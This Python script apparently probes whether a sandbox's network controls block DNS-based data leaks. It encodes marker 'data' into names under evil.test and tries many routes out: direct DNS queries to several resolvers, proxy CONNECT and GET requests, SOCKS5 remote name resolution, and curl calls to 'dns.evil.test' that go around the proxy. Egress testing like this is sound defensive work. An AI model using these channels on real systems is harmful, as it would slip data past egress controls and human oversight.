# Puts data into names and has every available resolver look them up.
import os, socket, struct, subprocess, sys, urllib.parse


def attempt(work, *arguments):
    try:
        return work(*arguments)
    except (OSError, subprocess.SubprocessError):
        return None


def question(name, kind):
    labels = b''.join(bytes([len(label)]) + label.encode() for label in name.split('.'))
    return struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>2H', kind, 1)


def datagram(server, name, kind):
    stream = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
    stream.settimeout(0.2)
    # Connected, so that the kernel reports when nothing listens.
    stream.connect((server, 53))
    stream.send(question(name, kind))
    stream.recv(512)


def stream(server, name, port):
    connection = socket.create_connection((server, port), 1)
    text = question(name, 16)
    connection.sendall(len(text).to_bytes(2, 'big') + text)
    connection.settimeout(0.5)
    connection.recv(512)


def proxy(request):
    connection = socket.create_connection(('127.0.0.1', 3128), 5)
    connection.sendall(request)
    connection.settimeout(2)
    connection.recv(512)


def connect_and_ask(server, name):
    connection = socket.create_connection(('127.0.0.1', 3128), 5)
    connection.sendall(f'CONNECT {server}:53 HTTP/1.1\r\nHost: {server}:53\r\n\r\n'.encode())
    connection.settimeout(2)
    if b' 200 ' in connection.recv(512):
        text = question(name, 16)
        connection.sendall(len(text).to_bytes(2, 'big') + text)
        connection.recv(512)


server = sys.argv[1]
attempt(socket.getaddrinfo, 'data-system.evil.test', 80)
attempt(socket.gethostbyaddr, '93.184.216.66')
for place in (server, '127.0.0.1', '127.0.0.53', '127.77.0.1', '::1'):
    for kind in (1, 10, 16, 28, 255):
        attempt(datagram, place, f'data-{kind}.evil.test', kind)
    for port in (53, 853):
        attempt(stream, place, 'data-stream.evil.test', port)
for port in (53, 80, 443, 853):
    name = f'data-connect-{port}.evil.test'
    attempt(proxy, f'CONNECT {name}:{port} HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n'.encode())
attempt(proxy, b'GET http://data-get.evil.test/ HTTP/1.1\r\nHost: data-get.evil.test\r\n\r\n')
attempt(proxy, b'GET http://ok.test/ HTTP/1.1\r\nHost: data-host.evil.test\r\n\r\n')
attempt(connect_and_ask, server, 'data-tunnel.evil.test')
attempt(connect_and_ask, 'dns.evil.test', 'data-tunnel.evil.test')
for name in ('data-socks.evil.test',):
    connection = socket.create_connection(('127.0.0.1', 3128), 5)
    connection.sendall(b'\x05\x01\0')
    connection.recv(16)
    attempt(connection.sendall, b'\x05\x01\0\x03' + bytes([len(name)]) + name.encode() + b'\x01\xbb')
    attempt(connection.recv, 16)
    # A name to be resolved for the asking, which is no connection at all.
    connection = socket.create_connection(('127.0.0.1', 3128), 5)
    connection.sendall(b'\x05\x01\0')
    connection.recv(16)
    attempt(connection.sendall, b'\x05\xf0\0\x03' + bytes([len(name)]) + name.encode() + b'\0\0')
    attempt(connection.recv, 16)
query = urllib.parse.quote('data-https.evil.test')
attempt(subprocess.run, ['curl', '--silent', '--max-time', '3', f'https://dns.evil.test/dns-query?name={query}'])
attempt(subprocess.run, ['curl', '--silent', '--max-time', '3', '--noproxy', '*', 'http://data-curl.evil.test/'])
print('that was all')
